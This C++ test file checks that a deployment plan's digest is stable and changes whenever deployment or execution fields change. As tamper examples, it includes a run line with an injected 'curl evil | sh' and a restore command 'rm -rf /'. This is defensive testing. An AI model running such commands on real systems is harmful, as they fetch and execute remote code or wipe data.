#include "playbooks/change/plan_digest.hpp"
#include "playbooks/deploy_plan.hpp"

#include <doctest/doctest.h>

using namespace flotilla;

namespace {

DeployPlan two_host_plan() {
  DeployPlan plan;
  plan.kind = ChangeKind::kDeploy;
  plan.unit = "reward";
  plan.environment = "prod";
  plan.artifact = "a1";
  plan.config = "c1";
  plan.secrets = "s1";
  for (const char* name : {"gs02", "gs01", "gs03"}) {
    HostPlan h;
    h.host = name;
    h.current = "a0";
    h.target = {"a1", "c1", "s1", "commit", "master"};
    h.change = std::string(name) != "gs03";  // gs03 already runs it
    plan.hosts.push_back(h);
  }
  return plan;
}

}  // namespace

TEST_CASE("plan digest: stable, independent of host order, changed by every covered field") {
  DeployPlan plan = two_host_plan();
  const std::string digest = plan_digest(plan);
  CHECK(digest.size() == 64);
  CHECK(plan_digest(two_host_plan()) == digest);  // another run, another controller: the same
  // Pinned, and computed independently (Python's sha256 over the same
  // canonical JSON): a change to the format voids every stored approval.
  CHECK(digest == "e0d8ad00d8a3d16d944a2e08071d7ce9008d379552cb6881b77d841579a00c6b");
  DeployPlan reordered = plan;
  std::swap(reordered.hosts[0], reordered.hosts[1]);
  CHECK(plan_digest(reordered) == digest);
  // Batches, bytes and checks are how, not what: they do not change it.
  DeployPlan same = plan;
  same.bytes_to_send = 12345;
  same.checks.push_back("ok");
  CHECK(plan_digest(same) == digest);

  auto differs = [&](auto change) {
    DeployPlan p = two_host_plan();
    change(p);
    return plan_digest(p) != digest;
  };
  CHECK(differs([](DeployPlan& p) { p.environment = "int"; }));
  CHECK(differs([](DeployPlan& p) { p.unit = "payment"; }));
  CHECK(differs([](DeployPlan& p) { p.kind = ChangeKind::kHotfix; }));
  CHECK(differs([](DeployPlan& p) { p.artifact = "a2"; }));
  CHECK(differs([](DeployPlan& p) { p.config = "c2"; }));
  CHECK(differs([](DeployPlan& p) { p.secrets = "s2"; }));
  CHECK(differs([](DeployPlan& p) { p.restores = 4; }));
  CHECK(differs([](DeployPlan& p) { p.hosts[0].current = "a9"; }));  // the host moved
  CHECK(differs([](DeployPlan& p) { p.hosts[2].change = true; }));   // wider scope
  CHECK(differs([](DeployPlan& p) { p.hosts[1].target.release = "a2"; }));
  CHECK(differs([](DeployPlan& p) { p.executes = "another run line"; }));
}

TEST_CASE("plan digest: what the change executes is covered, not only what it ships") {
  Unit unit;
  unit.name = "reward";
  unit.run = "bin/reward";
  unit.health = HealthCheck{"curl -fsS http://x/health"};
  const std::string base = unit_execution_digest(unit);
  auto differs = [&](auto change) {
    Unit u = unit;
    change(u);
    return unit_execution_digest(u) != base;
  };
  CHECK(unit_execution_digest(unit) == base);
  CHECK(differs([](Unit& u) { u.run = "bin/reward; curl evil | sh"; }));
  CHECK(differs([](Unit& u) { u.hooks["before_start"] = "true"; }));
  CHECK(differs([](Unit& u) { u.health->command = "true"; }));
  CHECK(differs([](Unit& u) { u.rollout.max_unavailable = {100, true}; }));
  CHECK(differs([](Unit& u) { u.rollout.canary = 0; }));
  CHECK(differs([](Unit& u) { u.drain.timeout = std::chrono::seconds(1); }));
  CHECK(differs([](Unit& u) { u.restore_command = "rm -rf /"; }));
  CHECK(differs([](Unit& u) { u.deploy_to = "/srv/other"; }));
}
